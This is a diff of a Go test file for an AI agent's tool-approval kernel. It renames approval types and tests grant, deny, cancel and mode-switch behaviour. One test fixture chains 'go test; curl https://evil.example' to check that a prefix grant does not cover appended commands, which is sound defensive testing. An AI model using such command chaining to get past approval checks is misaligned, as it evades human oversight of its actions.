@@ -52,12 +52,12 @@ type answerer struct {
 	asked []string
 }
 
-func (a *answerer) watch(k *kernel.Kernel, fn func(p approval.Pending) approval.Answer) func() {
+func (a *answerer) watch(k *kernel.Kernel, fn func(p kernel.Approval) kernel.Answer) func() {
 	return k.Subscribe(func(ev llm.Event) {
 		if ev.Type != "approval.request" {
 			return
 		}
-		var p approval.Pending
+		var p kernel.Approval
 		json.Unmarshal(ev.Data, &p)
 		a.mu.Lock()
 		a.asked = append(a.asked, string(p.Request.Action.Kind))
@@ -91,9 +91,9 @@ func TestModesThroughTheEngine(t *testing.T) {
 		t.Run(mode, func(t *testing.T) {
 			h := newHarness(t, []tools.Tool{actor{}}, pt.Calls(calls...), pt.Say("ok"))
 			ans := &answerer{}
-			ans.watch(h.k, func(p approval.Pending) approval.Answer { return approval.Answer{Choice: approval.AllowOnce} })
+			ans.watch(h.k, func(p kernel.Approval) kernel.Answer { return kernel.Answer{Choice: kernel.AllowOnce} })
 			run := h.runIn(context.Background(), h.session(mode).ID, "act")
-			if run.Status != llm.RunCompleted {
+			if run.Status != kernel.RunCompleted {
 				t.Fatalf("run %s: %s", run.Status, run.Error)
 			}
 			asked := map[string]bool{}
@@ -124,8 +124,8 @@ func TestModesThroughTheEngine(t *testing.T) {
 // changes nothing.
 func TestDenyWithMessage(t *testing.T) {
 	h := newHarness(t, []tools.Tool{actor{}}, pt.Calls(call("1", "act", `{"kind":"write","path":"/w/a"}`)), pt.Say("ok"))
-	(&answerer{}).watch(h.k, func(approval.Pending) approval.Answer {
-		return approval.Answer{Choice: approval.Deny, Message: "use the other file"}
+	(&answerer{}).watch(h.k, func(kernel.Approval) kernel.Answer {
+		return kernel.Answer{Choice: kernel.Deny, Message: "use the other file"}
 	})
 	h.runIn(context.Background(), h.session("manual").ID, "go")
 	tm := toolMessages(h.srv.Requests()[1])
@@ -148,12 +148,12 @@ func TestPrefixGrantDoesNotCoverChains(t *testing.T) {
 		pt.Calls(call("4", "act", `{"kind":"shell","command":"go test; curl https://evil.example"}`)),
 		pt.Say("ok"))
 	ans := &answerer{}
-	ans.watch(h.k, func(p approval.Pending) approval.Answer {
+	ans.watch(h.k, func(p kernel.Approval) kernel.Answer {
 		if p.Request.Action.Command == "go test ./..." {
 			s := p.Scopes[0]
-			return approval.Answer{Choice: approval.AllowSession, Scope: &s}
+			return kernel.Answer{Choice: kernel.AllowSession, Scope: &s}
 		}
-		return approval.Answer{Choice: approval.Deny}
+		return kernel.Answer{Choice: kernel.Deny}
 	})
 	h.runIn(context.Background(), h.session("manual").ID, "go")
 	reqs := h.srv.Requests()
@@ -176,14 +176,14 @@ func TestCancelWithdrawsApproval(t *testing.T) {
 	ids := make(chan string, 1)
 	h.k.Subscribe(func(ev llm.Event) {
 		if ev.Type == "approval.request" {
-			var p approval.Pending
+			var p kernel.Approval
 			json.Unmarshal(ev.Data, &p)
 			ids <- p.ID
 		}
 	})
 	sess := h.session("manual")
 	ctx, cancel := context.WithCancel(context.Background())
-	done := make(chan llm.Run)
+	done := make(chan kernel.Run)
 	go func() { done <- h.runIn(ctx, sess.ID, "go") }()
 	id := <-ids
 	if n := len(h.k.PendingApprovals(sess.ID)); n != 1 {
@@ -191,13 +191,13 @@ func TestCancelWithdrawsApproval(t *testing.T) {
 	}
 	cancel()
 	run := <-done
-	if run.Status != llm.RunCancelled {
+	if run.Status != kernel.RunCancelled {
 		t.Fatalf("run %s", run.Status)
 	}
-	if err := h.k.Answer(id, approval.Answer{Choice: approval.AllowOnce}); !errors.Is(err, approval.ErrAnswered) {
-		t.Fatalf("late answer: %v; want ErrAnswered", err)
+	if err := h.k.Answer(id, kernel.Answer{Choice: kernel.AllowOnce}); !errors.Is(err, approval.ErrAnswered) || kernel.Code(err) != kernel.CodeConflict {
+		t.Fatalf("late answer: %v; want ErrAnswered, code conflict", err)
 	}
-	if err := h.k.Answer("apr_nope", approval.Answer{Choice: approval.AllowOnce}); !errors.Is(err, approval.ErrUnknownRequest) {
+	if err := h.k.Answer("apr_nope", kernel.Answer{Choice: kernel.AllowOnce}); !errors.Is(err, approval.ErrUnknownRequest) {
 		t.Fatalf("unknown answer: %v", err)
 	}
 	recs, _ := h.k.Approvals(context.Background(), sess.ID)
@@ -233,9 +233,9 @@ func TestModeSwitchMidRun(t *testing.T) {
 		pt.Turn{Calls: []pt.Call{call("2", "act", `{"kind":"write","path":"/w/b"}`)}, Hold: hold},
 		pt.Say("ok"))
 	ans := &answerer{}
-	ans.watch(h.k, func(approval.Pending) approval.Answer { return approval.Answer{Choice: approval.AllowOnce} })
+	ans.watch(h.k, func(kernel.Approval) kernel.Answer { return kernel.Answer{Choice: kernel.AllowOnce} })
 	sess := h.session("manual")
-	done := make(chan llm.Run)
+	done := make(chan kernel.Run)
 	go func() { done <- h.runIn(context.Background(), sess.ID, "go") }()
 	for len(h.srv.Requests()) < 2 {
 		time.Sleep(2 * time.Millisecond)
